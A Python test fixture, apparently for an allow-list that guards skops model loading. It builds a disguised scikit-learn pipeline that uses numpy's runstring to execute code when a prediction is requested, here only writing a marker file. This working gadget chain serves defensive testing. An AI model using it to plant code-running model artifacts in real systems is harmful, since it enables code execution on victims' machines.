"""A hostile artifact of the kind the allow-list exists for: a pipeline of scikit-learn
`FunctionTransformer`s built only from numpy functions that, once loaded and asked for a
prediction, writes a marker file (standing for any code an attacker could run)."""

from __future__ import annotations

import zipfile
from pathlib import Path

import numpy as np
import skops.io as sio
from numpy.testing._private.utils import runstring
from sklearn.dummy import DummyRegressor
from sklearn.pipeline import Pipeline
from sklearn.preprocessing import FunctionTransformer


def crafted_pipeline(marker: Path) -> Pipeline:
    """`features`: any input → an array of strings, each the code; `pick`: its first element;
    `run`: exec of that string; then a model step so the pipeline looks like a regressor."""
    code = f"open({str(marker)!r}, 'w').write('code ran')"
    features = FunctionTransformer(func=np.full_like, kw_args={"fill_value": code, "dtype": f"U{len(code)}"})
    features.drivers_ = []  # what the engine's predict() reads from the features step
    steps = [
        ("features", features),
        ("pick", FunctionTransformer(func=np.take, kw_args={"indices": 0})),
        ("run", FunctionTransformer(func=runstring, kw_args={"dict": {}})),
        ("model", DummyRegressor().fit(np.zeros((2, 1)), np.zeros(2))),
    ]
    return Pipeline(steps)


def crafted_artifact(marker: Path) -> bytes:
    return sio.dumps(crafted_pipeline(marker), compression=zipfile.ZIP_DEFLATED)
